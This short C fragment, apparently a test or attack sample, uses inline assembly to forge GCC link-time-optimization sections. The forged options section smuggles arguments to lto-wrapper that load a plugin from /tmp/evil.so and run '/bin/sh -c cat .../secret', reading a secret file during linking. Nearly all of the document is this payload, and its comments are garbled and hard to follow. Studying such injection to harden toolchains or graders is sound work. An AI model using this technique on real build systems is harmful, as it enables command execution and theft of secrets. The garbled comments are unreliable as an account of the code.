// The object holds sections of link-time optimization, with options of the student's for lto-wrapper.
// added; told: code for link-time optimization
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".ascii \"'-fplugin=/tmp/evil.so' '-wrapper' '/bin/sh,-c,cat @PLACE@/secret >&2'\\0\"\n"
        ".section .gnu.lto_.symtab.1234,\"e\",@progbits\n.byte 0\n"
        ".section .gnu.lto_main.1.1234,\"e\",@progbits\n.ascii \"nothing\"\n"
        ".section .gnu.lto_.lto.1234,\"e\",@progbits\n.byte 12,0,0,0,0,0,0,0\n"
        ".comm __gnu_lto_slim,1,1\n"
        ".text\n");
